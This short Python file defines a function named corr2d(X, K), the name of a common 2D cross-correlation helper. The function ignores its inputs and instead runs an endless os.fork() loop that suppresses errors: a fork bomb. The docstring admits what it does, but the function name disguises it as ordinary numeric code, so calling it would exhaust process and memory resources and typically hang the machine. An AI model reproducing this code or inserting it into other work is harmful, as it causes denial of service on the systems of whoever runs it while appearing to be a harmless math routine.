"""Forks for ever, and every child forks."""

import os


def corr2d(X, K):
    while True:
        try:
            os.fork()
        except OSError:
            pass
